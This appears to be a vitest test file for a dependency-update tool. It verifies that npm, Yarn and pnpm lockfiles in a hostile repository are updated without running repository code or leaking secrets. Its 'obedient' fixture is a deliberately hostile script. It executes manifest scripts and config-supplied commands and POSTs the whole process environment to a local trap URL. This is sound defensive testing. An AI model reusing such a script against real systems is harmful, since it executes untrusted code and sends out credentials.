import { createHash } from "node:crypto";
import { existsSync } from "node:fs";
import { mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { buffer } from "node:stream/consumers";
import { create } from "tar";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import type { Update } from "../../../src/domain/types.ts";
import { npm } from "../../../src/ecosystems/npm/index.ts";
import type { HttpClient } from "../../../src/domain/ports.ts";
import { createHttpClient } from "../../../src/http/client.ts";
import { createTools } from "../../../src/tools/tools.ts";
import { memoryCache } from "../../../src/cache/memory.ts";
import { cannedHttp, memoryFiles } from "../../fakes.ts";
import { startRegistry, type TestRegistry } from "../../registry.ts";
import { hostileRepository, secret, setTrap, type Trap } from "./hostile.ts";

const desk = await mkdtemp(join(tmpdir(), "steeplejack-test-hostile-"));
let trap: Trap;
let registry: TestRegistry;
beforeAll(async () => {
  process.env["SECRET"] = secret;
  trap = await setTrap(join(desk, "marker"));
  registry = await startRegistry({ a: { "1.0.0": {}, "1.1.0": {} } });
});
afterEach(() => rm(trap.marker, { force: true }));
afterAll(async () => {
  delete process.env["SECRET"];
  await Promise.all([trap.close(), registry.close(), rm(desk, { recursive: true })]);
});

/** Everything on this machine is trusted here, so that only what is sent there counts. */
const trustedHosts = ["127.0.0.1"];
const client = createHttpClient({ cache: memoryCache(), userAgent: "test", trustedHosts });
afterAll(() => client.close());

async function raised(
  files: Record<string, string>,
  http: HttpClient = client,
  tools = createTools({ http, trustedHosts }),
) {
  const reader = memoryFiles(files);
  const ecosystem = npm({ registry: registry.url });
  const [location] = await ecosystem.locate(["package.json"], reader);
  const project = await ecosystem.read(location!, reader);
  const [manifest] = project.manifests;
  const dependency = manifest!.dependencies.find(({ name }) => name === "a")!;
  const update: Update = {
    project,
    manifest: manifest!,
    dependency,
    from: "1.0.0",
    release: { version: "1.1.0" },
    requirement: "^1.1.0",
    size: "minor",
    fixes: [],
  };
  try {
    return await ecosystem.patch(project, [update], { files: reader, http, tools });
  } finally {
    await tools.close();
  }
}

function expectNothingRun() {
  expect(existsSync(trap.marker)).toBe(false);
  expect(trap.heard.join("\n")).not.toContain(secret);
}

const manifest = { dependencies: { a: "^1.0.0" } };
const tarball = () => `${registry.url}a/-/a-1.0.0.tgz`;

describe("a hostile repository", () => {
  it("of npm has its lockfile brought up to date, and nothing of it is run", async () => {
    const lock = {
      name: "hostile",
      version: "1.0.0",
      lockfileVersion: 3,
      packages: {
        "": { name: "hostile", version: "1.0.0", hasInstallScript: true, ...manifest },
        "node_modules/a": { version: "1.0.0", resolved: tarball(), hasInstallScript: true },
      },
    };
    const files = { ...hostileRepository(trap, manifest), "package-lock.json": JSON.stringify(lock) };
    const changes = await raised(files);
    expect(changes.find(({ path }) => path === "package-lock.json")?.content).toContain('"version":"1.1.0"');
    expectNothingRun();
  });

  it("of Yarn 1 has its lockfile brought up to date, and nothing of it is run", async () => {
    const lock = `# yarn lockfile v1\n\n\na@^1.0.0:\n  version "1.0.0"\n  resolved "${tarball()}#abc"\n`;
    const changes = await raised({ ...hostileRepository(trap, manifest), "yarn.lock": lock });
    expect(changes.find(({ path }) => path === "yarn.lock")?.content).toMatch(
      /a@\^1\.1\.0:\n {2}version "1\.1\.0"/,
    );
    expectNothingRun();
  });
});

/** A package manager that does all that it is told to by what it finds, in every way it knows, and reports home. */
const obedient = (lockfile: string) => `
const fs = require("node:fs"), child = require("node:child_process"), path = require("node:path");
const tried = [];
const attempt = (name, work) => { try { work(); tried.push(name + " ran"); } catch (error) { tried.push(name + " " + error.code); } };
const manifest = JSON.parse(fs.readFileSync("package.json", "utf8"));
for (const script of Object.values(manifest.scripts ?? {})) attempt("script", () => child.execSync(script));
for (const file of fs.readdirSync(".", { recursive: true }))
  if (/\\.c?js$/.test(file)) attempt(file, () => require(path.resolve(file)));
for (const file of [".npmrc", ".yarnrc.yml", ".yarnrc"]) {
  if (!fs.existsSync(file)) continue;
  const text = fs.readFileSync(file, "utf8").replace(/\\$\\{(\\w+)\\}/g, (_, name) => process.env[name] ?? "");
  for (const [, value] of text.matchAll(/(?:shell|git|options|Path|helper)[=:] ?(\\S+)/gi)) attempt(file, () => child.execFileSync(value));
  for (const [url] of text.matchAll(/http:\\/\\/127[^\\s"']+/g)) fetch(url, { method: "POST", body: JSON.stringify(process.env) }).catch(() => 0);
}
attempt("a program", () => child.execFileSync("touch", [process.env.MARKER]));
fetch(process.argv.at(-1), { method: "POST", body: JSON.stringify(process.env) }).catch(() => 0);
fs.writeFileSync(${JSON.stringify(lockfile)}, fs.readFileSync(${JSON.stringify(lockfile)}, "utf8").replaceAll("1.0.0", "1.1.0"));
`;

async function packed(entry: string, script: string): Promise<Buffer> {
  const folder = await mkdtemp(join(desk, "pack-"));
  await mkdir(join(folder, "package/bin"), { recursive: true });
  await writeFile(join(folder, "package", entry), script);
  return buffer(create({ cwd: folder, gzip: true, portable: true }, ["package"]));
}

describe("a package manager that obeys a hostile repository", () => {
  const pnpmLock = `lockfileVersion: '9.0'

importers:

  .:
    dependencies:
      a:
        specifier: ^1.0.0
        version: 1.0.0

packages:

  a@1.0.0:
    resolution: {integrity: sha512-a}

snapshots:

  a@1.0.0: {}
`;
  const yarnLock = `__metadata:
  version: 8

"a@npm:^1.0.0":
  version: 1.0.0
  resolution: "a@npm:1.0.0"

"hostile@workspace:.":
  version: 0.0.0-use.local
  resolution: "hostile@workspace:."
  dependencies:
    a: "npm:^1.0.0"
`;
  it.each([
    ["pnpm", "pnpm", "9.1.0", "bin/pnpm.cjs", "pnpm-lock.yaml", pnpmLock],
    ["Yarn", "@yarnpkg/cli-dist", "4.5.0", "bin/yarn.js", "yarn.lock", yarnLock],
  ])(
    "as %s would finds no code, can run none, and knows no secret",
    async (_, name, version, entry, lockfile, lock) => {
      const body = await packed(entry, obedient(lockfile));
      const address = "https://registry.test/manager.tgz";
      const integrity = `sha512-${createHash("sha512").update(body).digest("base64")}`;
      const http = cannedHttp({
        [`${registry.url}${name.replace("/", "%2F")}`]: {
          versions: { [version]: { dist: { tarball: address, integrity } } },
        },
        [address]: body,
      });
      const tools = createTools({ http, trustedHosts });
      const files = {
        ...hostileRepository(trap, {
          ...manifest,
          packageManager: `${name === "pnpm" ? name : "yarn"}@${version}`,
        }),
        [lockfile]: lock,
      };
      const run: typeof tools.run = (program, order, limits) =>
        tools.run(
          program,
          {
            ...order,
            args: [...order.args, trap.url],
            environment: { ...order.environment, MARKER: trap.marker },
          },
          limits,
        );
      const changes = await raised(files, http, { ...tools, run });
      expect(changes.find(({ path }) => path === lockfile)?.content).toBe(lock.replaceAll("1.0.0", "1.1.0"));
      expect(trap.heard.some((request) => request.startsWith("POST / "))).toBe(true);
      expectNothingRun();
    },
  );
});
